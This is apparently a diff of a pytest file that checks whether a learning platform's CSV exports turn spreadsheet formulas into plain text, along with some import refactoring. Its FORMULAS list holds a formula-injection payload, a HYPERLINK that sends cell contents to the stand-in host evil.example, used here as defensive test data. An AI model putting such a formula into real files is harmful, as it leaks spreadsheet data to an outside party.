@@ -13,10 +13,9 @@ from dataclasses import dataclass
 
 import pytest
 
-from edge_server import csv_writer
+from edge_server.base import csv_writer
 from tests.conftest import form_csrf
 from tests.learning_catalog import LESSON, QUIZ, RIGHT, ev, make_catalog, post_events
-from tests.test_central_ingest import central_app  # noqa: F401 - fixture
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
@@ -41,7 +40,7 @@ def _cells(body: bytes) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text, newline="")))
 
 
-def _sign_in_site(client, user, password: str = "lotus-pond-7") -> None:  # noqa: ANN001
+def _sign_in_site(client, user, password: str = "lotus-pond-7") -> None:
     token = client.get("/api/v1/session").get_json()["csrf_token"]
     response = client.post(
         "/api/v1/session",
@@ -51,7 +50,7 @@ def _sign_in_site(client, user, password: str = "lotus-pond-7") -> None:  # noqa
     assert response.status_code == 200
 
 
-def _site_with_hostile_learner(request, name: str):  # noqa: ANN001, ANN202
+def _site_with_hostile_learner(request, name: str):
     """A cohort whose learner is named ``name`` and has events, and its instructor."""
     make_user = request.getfixturevalue("make_user")
     make_cohort = request.getfixturevalue("make_cohort")
@@ -67,7 +66,7 @@ def _site_with_hostile_learner(request, name: str):  # noqa: ANN001, ANN202
     return client, cohort, teacher
 
 
-def users_csv(request, name: str) -> Export:  # noqa: ANN001
+def users_csv(request, name: str) -> Export:
     make_user = request.getfixturevalue("make_user")
     client = request.getfixturevalue("client")
     make_user(display_name=name)
@@ -79,7 +78,7 @@ def users_csv(request, name: str) -> Export:  # noqa: ANN001
     return Export(response.get_data(), "Content-Length" not in response.headers)
 
 
-def user_export_command(request, name: str) -> Export:  # noqa: ANN001
+def user_export_command(request, name: str) -> Export:
     make_user = request.getfixturevalue("make_user")
     runner = request.getfixturevalue("runner")
     tmp_path = request.getfixturevalue("tmp_path")
@@ -90,7 +89,7 @@ def user_export_command(request, name: str) -> Export:  # noqa: ANN001
     return Export(out.read_bytes(), streamed=False)
 
 
-def _teach_csv(request, name: str, which: str) -> Export:  # noqa: ANN001
+def _teach_csv(request, name: str, which: str) -> Export:
     client, cohort, teacher = _site_with_hostile_learner(request, name)
     _sign_in_site(client, teacher)
     response = client.get(f"/teach/cohorts/{cohort.id}/{which}")
@@ -99,21 +98,20 @@ def _teach_csv(request, name: str, which: str) -> Export:  # noqa: ANN001
     return Export(response.get_data(), "Content-Length" not in response.headers)
 
 
-def progress_csv(request, name: str) -> Export:  # noqa: ANN001
+def progress_csv(request, name: str) -> Export:
     return _teach_csv(request, name, "progress.csv")
 
 
-def events_csv(request, name: str) -> Export:  # noqa: ANN001
+def events_csv(request, name: str) -> Export:
     return _teach_csv(request, name, "events.csv")
 
 
-def _central_export(request, name: str, path: str) -> Export:  # noqa: ANN001
+def _central_export(request, name: str, path: str) -> Export:
     from sync.central import registry
     from sync.central.db import database
     from sync.central.ingest import ingest_batch
     from sync.protocol import ItemRecord
-    from tests.test_central_api import sign_in
-    from tests.test_central_ingest import make_batch
+    from tests.central_support import make_batch, sign_in
 
     app = request.getfixturevalue("central_app")
     device = registry.add_device(name, "http://central.example", name).device
@@ -129,11 +127,11 @@ def _central_export(request, name: str, path: str) -> Export:  # noqa: ANN001
     return Export(response.get_data(), "Content-Length" not in response.headers)
 
 
-def sites_csv(request, name: str) -> Export:  # noqa: ANN001
+def sites_csv(request, name: str) -> Export:
     return _central_export(request, name, "/export/sites.csv")
 
 
-def completion_csv(request, name: str) -> Export:  # noqa: ANN001
+def completion_csv(request, name: str) -> Export:
     return _central_export(request, name, "/export/completion.csv")
 
 
@@ -148,7 +146,7 @@ EXPORTS: list[Callable[..., Export]] = [
 
 
 @pytest.mark.parametrize("export", EXPORTS, ids=lambda f: f.__name__)
-def test_every_csv_export_turns_formulas_into_text(request, export):  # noqa: ANN001
+def test_every_csv_export_turns_formulas_into_text(request, export):
     made = export(request, HOSTILE)
     cells = [cell for row in _cells(made.body) for cell in row]
     assert "'" + HOSTILE in cells
@@ -158,12 +156,12 @@ def test_every_csv_export_turns_formulas_into_text(request, export):  # noqa: AN
 @pytest.mark.parametrize(
     "export", [e for e in EXPORTS if e is not user_export_command], ids=lambda f: f.__name__
 )
-def test_every_csv_download_is_streamed(request, export):  # noqa: ANN001
+def test_every_csv_download_is_streamed(request, export):
     assert export(request, "ចាន់ សុភា").streamed
 
 
 @pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
-def test_each_formula_start_is_neutralised_in_course_titles_a_site_sends(request, formula):  # noqa: ANN001
+def test_each_formula_start_is_neutralised_in_course_titles_a_site_sends(request, formula):
     # Names typed on a site are trimmed; what a site sends to central is taken as it comes.
     cells = [cell for row in _cells(completion_csv(request, formula).body) for cell in row]
     assert "'" + formula in cells
